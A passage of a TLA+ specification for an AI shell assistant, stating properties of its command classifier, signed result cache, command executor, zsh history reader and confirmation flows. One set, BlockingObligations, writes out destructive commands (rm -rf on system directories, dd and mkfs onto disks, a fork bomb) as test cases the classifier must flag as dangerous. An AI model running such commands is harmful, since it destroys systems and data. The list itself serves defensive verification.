                = SplitReasons(classify_result[2])[j]

\* C16: a command matching no blocking and no caution pattern is classified
\* safe with no reason, and only such commands are classified safe.
C16_SafeIffNoPattern ==
    classify_result # <<>>
    => /\ (BlockedHits(classify_command) = {}
           /\ CautionHits(classify_command) = {})
          <=> classify_result[1] = "safe"
       /\ classify_result[1] = "safe" => SplitReasons(classify_result[2]) = <<>>

\* A command matching nothing was classified safe.
C16_Witness ==
    /\ classify_result = <<"safe", "">>
    /\ classify_command = "ls -la"

\* One command for each obligation of the blocking pattern set.
BlockingObligations ==
    { "chmod -R 777 /", "chown -R user /",
      "rm -rf /", "rm -rf /etc", "rm -rf /usr", "rm -rf /var", "rm -rf /bin",
      "rm -rf /sbin", "rm -rf /lib", "rm -rf /boot", "rm -rf /home",
      "dd if=/dev/zero of=/dev/sda", "dd if=a of=/dev/hda",
      "dd if=a of=/dev/nvme0n1",
      "mkfs.ext4 /dev/sda1",
      ":(){ :|:& };:",
      "rm -rf --no-preserve-root /" }

\* C17: every obligation of the blocking pattern set is classified
\* dangerous.
C17_ObligationsDangerous ==
    (classify_result # <<>> /\ classify_command \in BlockingObligations)
    => classify_result[1] = "dangerous"

\* The cache key of a (query, profile) pair, and whether the last cache
\* operation was a get for that pair.
KeyOf(pair) == get_cache_key(pair[1], pair[2])

IsGet(call, pair) ==
    call # <<>> /\ call.op = "get"
    /\ call.query = pair[1] /\ call.profile = pair[2]

\* The file of the pair exists and its age is within the TTL.
WithinTTL(pair) ==
    /\ KeyOf(pair) \in DOMAIN cache_dir
    /\ clock - cache_dir[KeyOf(pair)].mtime < CACHE_TTL

\* C18: put(q, c, p) that wrote its record, followed by get(q, c) within the
\* TTL, in the same process, the storage readable, returns a payload equal
\* to p and leaves the record on storage.
C18_CacheRoundTrip ==
    [][\A pair \in CachePairs, p \in Responses :
          (/\ cache_call = CacheCall("put", pair[1], pair[2], p, "none",
                                     <<>>, None, FALSE)
           /\ WithinTTL(pair)
           /\ IsGet(cache_call', pair)
           /\ cache_call'.storage = "none")
          => /\ cache_call'.returned = p
             /\ ~cache_call'.raised
             /\ cache_dir' = cache_dir]_vars

\* A get, some time after the put and within the TTL, returned the
\* non-empty payload whose record is still on storage.
C18_Witness ==
    \E pair \in CachePairs :
        /\ IsGet(cache_call, pair)
        /\ cache_call.returned \in Responses \ {EmptyResponse}
        /\ WithinTTL(pair)
        /\ clock > cache_dir[KeyOf(pair)].mtime
        /\ cache_dir[KeyOf(pair)].bytes =
              sign_cache(CACHE_SECRET, PickleDumps(cache_call.returned))

\* The bytes are a record an earlier process signed.
SignedByEarlierProcess(bytes) ==
    \E secret \in 1..(CACHE_SECRET - 1), p \in Responses :
        bytes = sign_cache(secret, PickleDumps(p))

\* C19: after a secret rotation, get(q, c) on a record an earlier process
\* wrote, on storage and within the TTL, returns absent, and the record is
\* no longer on storage after the lookup (the storage letting it be
\* deleted).
C19_RotationInvalidates ==
    [][\A pair \in CachePairs :
          (/\ WithinTTL(pair)
           /\ SignedByEarlierProcess(cache_dir[KeyOf(pair)].bytes)
           /\ IsGet(cache_call', pair)
           /\ cache_call'.storage # "unlink")
          => /\ cache_call'.returned = None
             /\ ~cache_call'.raised
             /\ KeyOf(pair) \notin DOMAIN cache_dir']_vars

\* A get of the second process found a record of the first, answered
\* absent and removed it.
C19_Witness ==
    \E pair \in CachePairs :
        /\ IsGet(cache_call, pair)
        /\ cache_call.storage = "none"
        /\ CACHE_SECRET = 2
        /\ \E p \in Responses \ {EmptyResponse} :
              cache_call.found = sign_cache(1, PickleDumps(p))
        /\ cache_call.returned = None
        /\ KeyOf(pair) \notin DOMAIN cache_dir

\* C20 as stated: when the stored bytes of a record were changed after the
\* put, a get within the TTL returns absent and deletes the record.
C20_TamperedNeverReturned ==
    [][\A pair \in CachePairs :
          (/\ cache_call # <<>> /\ cache_call.op = "tamper"
           /\ WithinTTL(pair)
           /\ IsGet(cache_call', pair)
           /\ cache_call'.storage = "none")
          => /\ cache_call'.returned = None
             /\ KeyOf(pair) \notin DOMAIN cache_dir']_vars

\* C20 as amended: when the stored bytes of a record were changed after the
\* put, a get within the TTL returns absent and deletes the record, unless
\* the bytes now stored are as a whole a record signed under the secret of
\* the running process, whose payload it then returns; a change of a unit
\* of the signature or of the data alone, and a cut below the width of the
\* signature, are always answered absent.
C20_TamperedReturnedOnlyIfSigned ==
    [][\A pair \in CachePairs :
          (/\ cache_call # <<>> /\ cache_call.op = "tamper"
           /\ WithinTTL(pair)
           /\ IsGet(cache_call', pair)
           /\ cache_call'.storage = "none")
          => /\ ~cache_call'.raised
             /\ IF \E p \in Responses : cache_dir[KeyOf(pair)].bytes =
                       sign_cache(CACHE_SECRET, PickleDumps(p))
                THEN /\ cache_call.storage = "replace"
                     /\ cache_dir[KeyOf(pair)].bytes =
                           sign_cache(CACHE_SECRET,
                                      PickleDumps(cache_call'.returned))
                     /\ cache_dir' = cache_dir
                ELSE /\ cache_call'.returned = None
                     /\ KeyOf(pair) \notin DOMAIN cache_dir']_vars

\* A get found bytes that are no signed record of any process, answered
\* absent and removed the file.
C20_Witness ==
    \E pair \in CachePairs :
        /\ IsGet(cache_call, pair)
        /\ Len(cache_call.found) > DigestSize
        /\ ~Intact(cache_call.found)
        /\ cache_call.returned = None
        /\ KeyOf(pair) \notin DOMAIN cache_dir

\* The file of the pair exists and its age exceeds the TTL.  (In the
\* action formulas below, "clock' = clock" tells the step of an operation
\* from the passing of time, which leaves the record of the last operation
\* as it was.)
Expired(pair) ==
    /\ KeyOf(pair) \in DOMAIN cache_dir
    /\ clock - cache_dir[KeyOf(pair)].mtime > CACHE_TTL

\* C21: a get on a record whose age exceeds the TTL deletes the record:
\* after the get no record exists for the key.
C21_ExpiredDeletedByGet ==
    [][\A pair \in CachePairs :
          (Expired(pair) /\ IsGet(cache_call', pair) /\ clock' = clock)
          => KeyOf(pair) \notin DOMAIN cache_dir']_vars

\* C22: get returns absent for every record whose age exceeds the TTL, also
\* when its MAC verifies under the secret of the running process.
C22_ExpiredNeverReturned ==
    [][\A pair \in CachePairs :
          (Expired(pair) /\ IsGet(cache_call', pair) /\ clock' = clock)
          => /\ cache_call'.returned = None
             /\ ~cache_call'.raised]_vars

\* A get found a record older than the TTL that the running process signed
\* for a non-empty payload, and answered absent.
C22_Witness ==
    \E pair \in CachePairs :
        /\ IsGet(cache_call, pair)
        /\ Expired(pair)
        /\ \E p \in Responses \ {EmptyResponse} :
              /\ cache_call.found = sign_cache(CACHE_SECRET, PickleDumps(p))
              /\ cache_dir[KeyOf(pair)].bytes = cache_call.found
        /\ cache_call.returned = None

\* C23: two different (query, context) pairs never derive the same key, so
\* a get for one pair never reads the file a put for another pair wrote.
C23_DifferentPairsDifferentKeys ==
    [][\A pair1, pair2 \in CachePairs :
          (/\ pair1 # pair2
           /\ cache_call # <<>> /\ cache_call.op = "put"
           /\ cache_call.query = pair1[1] /\ cache_call.profile = pair1[2]
           /\ cache_call.storage = "none"
           /\ IsGet(cache_call', pair2))
          => /\ KeyOf(pair1) # KeyOf(pair2)
             /\ cache_call'.returned = None]_vars

\* C24: a get that meets a storage or integrity failure (no record, a MAC
\* that does not verify, a payload that does not load, a record that cannot
\* be read, a record that cannot be deleted) returns absent and does not
\* raise.
C24_ReadFailureIsAbsent ==
    \A pair \in CachePairs :
        (/\ IsGet(cache_call, pair)
         /\ \/ cache_call.storage # "none"
            \/ verify_cache(CACHE_SECRET, cache_call.found) = None
            \/ ~PickleLoadable(verify_cache(CACHE_SECRET,
                                            cache_call.found).data))
        => /\ cache_call.returned = None
           /\ ~cache_call.raised

\* The put did not write its whole record.
FailedPut(call) ==
    call # <<>> /\ call.op = "put" /\ call.storage # "none"

\* C25: put never raises, whatever the storage does; and the get that
\* follows a failed or partial put returns absent or the payload of the
\* complete record that the put did not touch.
C25_FailedPutSwallowed ==
    /\ [](cache_call # <<>> /\ cache_call.op = "put" => ~cache_call.raised)
    /\ [][\A pair \in CachePairs :
             (FailedPut(cache_call) /\ IsGet(cache_call', pair))
             => \/ cache_call'.returned = None
                \/ /\ cache_call.storage = "open"
                   /\ cache_call'.found =
                         sign_cache(CACHE_SECRET,
                                    PickleDumps(cache_call'.returned))
                   /\ cache_dir' = cache_dir]_vars

\* A put stopped after part of its record; the get that followed found the
\* partial bytes and answered absent.
C25_Witness ==
    \E pair \in CachePairs :
        /\ IsGet(cache_call, pair)
        /\ Len(cache_call.found) > DigestSize
        /\ \E p \in Responses :
              /\ cache_call.found # sign_cache(CACHE_SECRET, PickleDumps(p))
              /\ cache_call.found =
                    SubSeq(sign_cache(CACHE_SECRET, PickleDumps(p)), 1,
                           Len(cache_call.found))
        /\ cache_call.returned = None

\* The last operation was a request for the pair.
IsAsk(call, pair) ==
    call # <<>> /\ call.op = "ask"
    /\ call.query = pair[1] /\ call.profile = pair[2]

\* The request called the oracle, the reply parsed, and its record was
\* written whole.
AskedAndCached(call, pair) ==
    /\ IsAsk(call, pair)
    /\ call.oracle /\ call.reply.kind = "parsed"
    /\ call.put_storage = "none"

\* C26: after a request whose oracle reply parsed and was cached, the next
\* request for the same query and profile, in the same process, within the
\* TTL and with the storage readable, is answered from the cache with the
\* same payload and without an oracle call, whatever the payload (the empty
\* object too).
C26_RepeatAnsweredFromCache ==
    [][\A pair \in CachePairs :
          (/\ AskedAndCached(cache_call, pair)
           /\ WithinTTL(pair)
           /\ IsAsk(cache_call', pair) /\ clock' = clock
           /\ cache_call'.storage = "none")
          => /\ ~cache_call'.oracle
             /\ cache_call'.returned = cache_call.returned]_vars

\* A repeated request for a non-empty payload is answered from the cache
\* without an oracle call.
RepeatOfNonEmptyAnsweredFromCache ==
    [][\A pair \in CachePairs :
          (/\ AskedAndCached(cache_call, pair)
           /\ cache_call.returned # EmptyResponse
           /\ WithinTTL(pair)
           /\ IsAsk(cache_call', pair) /\ clock' = clock
           /\ cache_call'.storage = "none")
          => /\ ~cache_call'.oracle
             /\ cache_call'.returned = cache_call.returned]_vars

\* C27: every result of execute has success exactly when exit_code is 0,
\* whether the command completed, timed out or could not be run.
C27_SuccessIffExitZero ==
    execute_result # <<>>
    => (execute_result.success <=> execute_result.exit_code = 0)

\* The shell was killed by a signal: the result does not report success and
\* carries the negative return code.
C27_Witness ==
    /\ execute_result # <<>>
    /\ execute_outcome.kind = "exit"
    /\ execute_outcome.returncode < 0
    /\ ~execute_result.success
    /\ execute_result.exit_code = execute_outcome.returncode

\* C28: a command that outlives the timeout gives success false, exit code
\* -1, empty output, the timeout message as error and a duration of
\* timeout * 1000; any other fault gives success false, exit code -1 and
\* the fault's message as error.
C28_TimeoutAndFaultResults ==
    /\ (execute_result # <<>> /\ execute_outcome.kind = "timeout")
       => /\ execute_result.success = FALSE
          /\ execute_result.exit_code = -1
          /\ execute_result.output = ""
          /\ execute_result.error =
                "Command timed out after " \o ToString(execute_timeout)
                   \o " seconds."
          /\ execute_result.duration_ms = execute_timeout * 1000
    /\ (execute_result # <<>> /\ execute_outcome.kind = "fault")
       => /\ execute_result.success = FALSE
          /\ execute_result.exit_code = -1
          /\ execute_result.error = execute_outcome.message

\* A call with a timeout of two seconds or more timed out.
C28_Witness ==
    /\ execute_result # <<>>
    /\ execute_outcome.kind = "timeout"
    /\ execute_timeout >= 2
    /\ execute_result.duration_ms = execute_timeout * 1000
    /\ execute_result.exit_code = -1

\* The five fields of the dict execute returns, and their types.
WellFormed(result) ==
    /\ DOMAIN result =
          {"success", "output", "error", "exit_code", "duration_ms"}
    /\ result.success \in BOOLEAN
    /\ result.output \in STRING
    /\ result.error \in STRING
    /\ result.exit_code \in Int
    /\ result.duration_ms \in Int

\* C29: for every command string and every timeout >= 0 the call comes
\* back, whatever the child does, and what it hands back is a dict with
\* the five fields; nothing is raised.
C29_ExecuteIsTotal ==
    /\ execute_result = <<>> => ENABLED Execute
    /\ execute_result # <<>> => WellFormed(execute_result)

\* A call with a timeout of 0 whose child could not be launched came back
\* with a result.
C29_Witness ==
    /\ execute_result # <<>>
    /\ execute_timeout = 0
    /\ execute_outcome.kind = "fault"
    /\ WellFormed(execute_result)
    /\ execute_result.error = execute_outcome.message

\* C30: the list read_shell_history(n) returns has at most n entries (none
\* for n = 0), none of them blank, and is the tail of the list returned
\* when every entry is asked for.
C30_LastEntriesAtMostN ==
    history_result # <<>>
    => LET entries == history_result[1]
           all == read_shell_history(history_shell, history_file,
                                     MaxHistoryLines + 1)
       IN  /\ Len(entries) <= history_n
           /\ \A i \in DOMAIN entries : Strip(entries[i]) # ""
           /\ Len(entries) <= Len(all)
           /\ entries = SubSeq(all, Len(all) - Len(entries) + 1, Len(all))
           /\ Len(entries) < history_n => entries = all

\* The lines of a history file, as they stand in the file.
FileLines(file) == Split(file.content, "\n", -1)

\* What the rule of the timestamped dialect makes of one line: a line that
\* begins with ": " gives its trimmed fourth colon field when it has four
\* fields and nothing otherwise, any other line gives itself, trimmed.
DialectBCommand(line) ==
    IF StartsWith(line, ": ")
    THEN LET fields == Split(line, ":", 3)
         IN  IF Len(fields) = 4 THEN <<Strip(fields[4])>> ELSE <<>>
    ELSE <<Strip(line)>>

RECURSIVE DialectBCommands(_)
DialectBCommands(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE DialectBCommand(Head(lines)) \o DialectBCommands(Tail(lines))

\* The call read a zsh history file and asked for at least as many entries
\* as the file has lines.
ReadAllOfZsh ==
    /\ history_result # <<>>
    /\ history_shell = "/usr/bin/zsh"
    /\ history_file.kind = "text"
    /\ history_n >= Len(FileLines(history_file))

\* C31: for a zsh history file, the entries returned are the non-blank
\* commands the rule of the timestamped dialect gives line by line: the
\* trimmed fourth field of a ": " line with four colon fields (colons of
\* the command kept), nothing for a ": " line with fewer fields, the
\* trimmed line for any other line.
C31_DialectBLineRule ==
    ReadAllOfZsh
    => history_result[1] =
          SelectSeq(DialectBCommands(FileLines(history_file)),
                    LAMBDA c : c # "")

\* The rule holds for every file whose text does not come to begin with
\* ": " only by the trimming of the whole text.
DialectBLineRuleWithoutLeadingSpace ==
    (/\ ReadAllOfZsh
     /\ StartsWith(Strip(history_file.content), ": ")
           => StartsWith(history_file.content, ": "))
    => history_result[1] =
          SelectSeq(DialectBCommands(FileLines(history_file)),
                    LAMBDA c : c # "")

\* The position in the order of submission of the i-th result written.
InSubmissionOrder(ids) ==
    \A i, j \in DOMAIN ids : i < j => ids[i] < ids[j]

\* C32: at most one execute() call is in progress at any time, no
\* coroutine of a later input has begun while the one of an earlier input
\* has not returned, and the results are written in the order in which the
\* inputs were submitted.
C32_OneExecutionInSubmissionOrder ==
    /\ Cardinality(executing) <= 1
    /\ Cardinality(handlers) <= 1
    /\ InSubmissionOrder(delivered)

\* The oracle call of the first input is being awaited, the second input
\* has been submitted meanwhile and waits in the queue.
C32_Witness ==
    /\ \E handler \in handlers : handler.id = 1 /\ handler.at = "oracle"
    /\ message_queue # <<>>
    /\ Head(message_queue) = Submitted(2, "run ls")
    /\ delivered = <<>>

\* The inputs help, profile and progress, in the letter cases submitted.
SpecialWords ==
    {w \in Inputs : LowerOfText[w] \in {"help", "profile", "progress"}}

C34_PendingAliasIsActive ==
    /\ [](_pending_alias # "" => _pending_alias \in DOMAIN aliases)
    /\ [][/\ aliases' = aliases
          /\ (_pending_alias # "" /\ last_raw' \in YesWords
              /\ asked' # <<>>)
             => asked' = <<aliases[_pending_alias]>>]_vars

\* An alias of the active set is pending.
C34_Witness ==
    /\ path = "alias_propose"
    /\ _pending_alias # ""
    /\ _pending_alias \in DOMAIN aliases
    /\ last_raw = "/" \o _pending_alias

FixPendingUntilConfirmedWithoutAlias ==
    [][/\ (fix_proposed # "" /\ _pending_alias = "" /\ last_raw' \in NoWords)
          => /\ ran' = <<>>
             /\ _pending_cmd' = ""
       /\ (fix_proposed # "" /\ _pending_alias = "" /\ last_raw' \in YesWords)
          => ran' = <<fix_proposed>>]_vars

\* A pending alias and a pending command are both set.
BothPending == _pending_cmd # "" /\ _pending_alias # ""

\* C36: with a pending alias and a pending command both set, n clears the
\* pending alias alone, executes nothing and leaves the command pending;
\* y expands the alias (the alias is no longer pending) without executing
\* anything and leaves the command pending.
C36_AliasFlowFirst ==
    [][/\ (BothPending /\ last_raw' \in NoWords)
          => /\ ran' = <<>>
             /\ asked' = <<>>
             /\ _pending_alias' = ""
             /\ _pending_cmd' = _pending_cmd
       /\ (BothPending /\ last_raw' \in YesWords)
          => /\ ran' = <<>>
             /\ _pending_alias' = ""
             /\ _pending_cmd' = _pending_cmd]_vars

\* What holds with both set: n clears the alias alone; y clears the alias
\* and goes on to handle its expansion as an input, which executes a
\* command only when the expansion is a run request, and the command stays
\* pending unless the oracle's proposal or the fix of a failed run takes
\* its place.
AliasFlowFirstUnlessReplaced ==
    [][/\ (BothPending /\ last_raw' \in NoWords)
          => /\ ran' = <<>>
             /\ asked' = <<>>
             /\ _pending_alias' = ""
             /\ _pending_cmd' = _pending_cmd
       /\ (BothPending /\ last_raw' \in YesWords)
          => /\ _pending_alias' = ""
             /\ ran' # <<>> => path' = "run"
             /\ \/ _pending_cmd' = _pending_cmd
                \/ /\ asked' = <<aliases[_pending_alias]>>
                   /\ proposed' # ""
                   /\ _pending_cmd' = proposed'
                \/ /\ ran' # <<>>
                   /\ fix_proposed' # ""
                   /\ _pending_cmd' = fix_proposed']_vars

\* C37: after any sequence of executions last_error is non-empty exactly
\* when the most recent execution failed, and then it records the command of
\* that execution; a successful execution always clears it.  Stated over the
\* input that executed last: right after it last_error is non-empty exactly
\* when execute reported a failure and then names the command that ran, and
\* an input that executes nothing leaves last_error as it was.
C37_LastErrorOfLastExecution ==
    /\ [](ran # <<>>
          => /\ last_error # <<>> <=> ~succeeded[1]
             /\ last_error # <<>> => last_error[1].cmd = ran[1])
    /\ [][ran' = <<>> => last_error' = last_error]_vars

\* The pending command was confirmed and failed: last_error records it.
C37_Witness ==
    /\ path = "confirm"
    /\ ran # <<>>
    /\ ~succeeded[1]
    /\ last_error # <<>>
    /\ last_error[1].cmd = ran[1]

\* The last operation was a request for the pair on which the oracle was
\* called and failed: the call raised, or its reply did not parse.
OracleFailed(call, pair) ==
    /\ IsAsk(call, pair)
    /\ call.oracle
    /\ call.reply.kind \in {"unparseable", "error"}

\* The step is a request for the pair (time and the process stand still).
AskStep(pair) ==
    /\ IsAsk(cache_call', pair)
    /\ clock' = clock
    /\ CACHE_SECRET' = CACHE_SECRET

\* C38: an oracle failure is never cached: when the oracle call raises or
\* its reply cannot be parsed, get_ai_response returns, without raising, a
\* fallback response with an empty command and writes no cache record (no
\* file of the directory is created or rewritten), so that the next
\* identical request calls the oracle again.
C38_OracleFailureNotCached ==
    /\ [](\A pair \in CachePairs :
             OracleFailed(cache_call, pair)
             => /\ ~cache_call.raised
                /\ cache_call.returned.command = ""
                /\ cache_call.put_storage = "none")
    /\ [][\A pair \in CachePairs :
             /\ (AskStep(pair) /\ OracleFailed(cache_call', pair))
                => \A key \in DOMAIN cache_dir' :
                      /\ key \in DOMAIN cache_dir
                      /\ cache_dir'[key] = cache_dir[key]
             /\ (OracleFailed(cache_call, pair) /\ AskStep(pair))
                => cache_call'.oracle]_vars

\* The lookup found a record it could not answer from (expired, or holding
\* the empty dict), the oracle was called and failed, and the directory
\* holds that record as it was.
C38_Witness ==
    \E pair \in CachePairs :
        /\ OracleFailed(cache_call, pair)
        /\ cache_call.found # <<>>
        /\ KeyOf(pair) \in DOMAIN cache_dir
        /\ cache_dir[KeyOf(pair)].bytes = cache_call.found

====
